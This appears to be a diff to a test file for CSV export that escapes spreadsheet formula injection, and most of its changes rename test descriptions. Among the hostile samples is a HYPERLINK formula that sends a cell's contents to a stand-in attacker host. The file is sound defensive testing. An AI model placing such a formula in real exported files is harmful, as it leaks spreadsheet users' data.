@@ -16,7 +16,7 @@ it.each([
   ['that only begins like one', '-3.2+1', "'-3.2+1"],
   ['of a phone', '+34 600 000 000', "'+34 600 000 000"],
   ['with a formula behind another separator', 'Roof; =1+1', '"Roof; \'=1+1"'],
-])('writes a text %s', (_, text, field) => {
+])('writes a CSV text %s', (_, text, field) => {
   expect(csvField(text)).toBe(field)
 })
 
@@ -28,7 +28,7 @@ it.each([
   ["d'Artagnan; -1", "d'Artagnan; '-1"],
   ['Roof; =1+1', "Roof; '=1+1"],
   ['; ;=1', "; ;'=1"],
-])('reads %j as it was before it was written', (text, field) => {
+])('reads %j from CSV as it was before it was written', (text, field) => {
   expect(unquoted(csvField(text))).toBe(field)
   expect(textOfField(field)).toBe(text)
 })
@@ -37,8 +37,8 @@ it.each([
 const unquoted = (field: string): string =>
   field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field
 
-describe.each(HOSTILE_TEXTS)('%j', (text) => {
-  it('is calculated by no spreadsheet, as a field and as a comment', () => {
+describe.each(HOSTILE_TEXTS)('the hostile text %j', (text) => {
+  it('keeps a hostile text from being calculated, as a field and as a comment', () => {
     for (const file of [
       `time,name,value\r\n2026,${csvField(text)},-3.2\r\n`,
       `time,name,value\r\n2026,${csvLineField(text)},-3.2\r\n`,
@@ -49,26 +49,26 @@ describe.each(HOSTILE_TEXTS)('%j', (text) => {
     }
   })
 
-  it('is the same field after it was read and written again', () => {
+  it('writes a hostile text as the same field after reading it back', () => {
     for (const field of [csvField(text), csvLineField(text)]) {
       expect(csvField(textOfField(unquoted(field)))).toBe(field)
     }
   })
 
-  it('is one cell', () => {
+  it('keeps a hostile text in one cell', () => {
     expect(spreadsheetCells(`a,${csvField(text)},b`, ',')).toHaveLength(3)
     expect(spreadsheetCells(csvComment(text).trimEnd(), ',')).toHaveLength(1)
     expect(spreadsheetCells(csvComment(text).trimEnd(), ';')).toHaveLength(1)
   })
 })
 
-it('the check finds what was written without the rule', () => {
+it('finds hostile cells that were written without the rule', () => {
   const found = HOSTILE_TEXTS.filter((text) => calculatedCells(`# ${text}: x`).length > 0)
   expect(found).toContain('Roof,=HYPERLINK("http://evil.example/?"&A9;"click")')
   expect(found).toContain('raw:a,=HYPERLINK(1)')
 })
 
-it('takes a moment for a long run of blanks', () => {
+it('reads a long run of blanks quickly', () => {
   const startedAt = performance.now()
   expect(csvField(`a${'\n'.repeat(500_000)}b`)).toHaveLength(500_004)
   expect(performance.now() - startedAt).toBeLessThan(1000)
